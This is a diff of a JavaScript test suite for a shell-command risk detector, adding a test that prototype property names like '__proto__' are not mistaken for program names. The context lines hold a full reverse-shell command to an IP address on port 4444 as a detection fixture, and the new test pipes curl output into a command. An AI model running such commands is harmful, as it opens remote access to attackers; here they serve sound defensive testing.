@@ -339,6 +339,11 @@ describe('grave-act', () => {
     expect(opened(shell('bash -i >& /dev/tcp/45.155.204.17/4444 0>&1'), 1)).toMatchObject([{ severity: 'high' }]);
   });
 
+  it('knows no program by the name of what every object has', () => {
+    for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'])
+      expect(tell(shell(`${name} a; curl x | ${name} b && rm ${name}`))).toEqual([]);
+  });
+
   it('is quick about a hostile argument', () => {
     for (const text of HOSTILE) {
       const long = text.repeat(Math.ceil(100_000 / text.length));
